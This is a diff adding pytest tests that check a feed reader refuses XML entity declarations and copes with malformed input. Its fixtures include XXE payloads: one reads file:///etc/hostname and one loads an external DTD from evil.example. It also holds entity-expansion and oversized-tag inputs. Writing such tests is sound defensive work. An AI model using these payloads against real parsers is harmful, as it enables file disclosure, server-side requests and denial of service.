@@ -81,3 +81,74 @@ def test_bytes_are_never_taken_for_a_path_or_url(tmp_path: Path) -> None:
 )
 def test_feeds_are_sniffed(body: bytes, media_type: str, expected: bool) -> None:
     assert is_feed(body, media_type) is expected
+
+
+ITEM = b"<item><title>&b;</title><link>https://a.example/1</link></item>"
+
+
+@pytest.mark.parametrize(
+    "declared",
+    [
+        b'[<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]',
+        b'[<!ENTITY b SYSTEM "file:///etc/hostname">]',
+        b'[<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]',
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_entities_are_refused(declared: bytes, encoding: str) -> None:
+    comment = b"<?x <rss>?><!-- <rss> -->"  # what looks like the root is not
+    body = comment + b"<!DOCTYPE rss " + declared + b"><rss version='2.0'>" + ITEM + b"</rss>"
+    with pytest.raises(FeedError, match="declares entities"):
+        read_feed(body.decode().encode(encoding), URL)
+
+
+def test_a_document_type_without_entities_is_read() -> None:
+    head = b'<!DOCTYPE rss PUBLIC "-//Gazette//DTD 0.91//EN" "https://a.example/rss.dtd">'
+    body = head + b"<rss version='0.91'><channel>" + ITEM + b"</channel></rss>"
+    assert [entry.url for entry in read_feed(body, URL).entries] == ["https://a.example/1"]
+
+
+@pytest.mark.parametrize(
+    "printed", ["soon", "0000-00-00", "Sat, 35 Mar 2023 10:00:00 GMT", "9" * 5_000, "1e400"]
+)
+def test_nonsense_is_no_date(printed: str) -> None:
+    item = f"<item><link>/1</link><pubDate>{printed}</pubDate></item>".encode()
+    (entry,) = read_feed(b"<rss version='2.0'>" + item + b"</rss>", URL).entries
+    assert entry.published is None
+
+
+@pytest.mark.parametrize(
+    ("inside", "read", "unlinked", "broken"),
+    [
+        (b"<item>" * 5_000, 0, 0, True),
+        (b"<item xml:base='http://['><link>x</link></item>", 1, 0, False),
+        (b"<item><link>http://[x</link></item>", 0, 1, False),
+        (b"<item><title type='base64'>%%%</title><link>/1</link></item>", 1, 0, False),
+        (b"<item><title>\0\xff</title><link>/1</link></item>", 1, 0, True),
+        (b"<channel><image><url>http://[</url></image></channel>", 0, 0, False),
+        (b"<x:y><item><link>/../../1</link></item>", 1, 0, True),
+    ],
+)
+def test_nonsense_gives_what_can_be_read(
+    inside: bytes, read: int, unlinked: int, broken: bool
+) -> None:
+    feed = read_feed(b"<rss version='2.0'>" + inside + b"</rss>", URL)
+    assert (len(feed.entries), feed.unlinked) == (read, unlinked)
+    assert (feed.fault is not None) is broken
+
+
+def test_whatever_breaks_the_parser_is_the_feed(monkeypatch: pytest.MonkeyPatch) -> None:
+    def fail(*_: object, **__: object) -> None:
+        raise AttributeError("no such thing")
+
+    monkeypatch.setattr("feedparser.parse", fail)
+    with pytest.raises(FeedError, match="no such thing"):
+        read_feed(b"<rss/>", URL)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "gb2312"])
+def test_a_tag_without_end_is_refused(encoding: str) -> None:
+    tag = "<item " + " ".join(f"a{number}=''" for number in range(20_000)) + ">"
+    body = f"<?xml version='1.0' encoding='{encoding}'?><rss version='2.0'>{tag}"
+    with pytest.raises(FeedError, match="attributes"):
+        read_feed(body.encode(), URL)
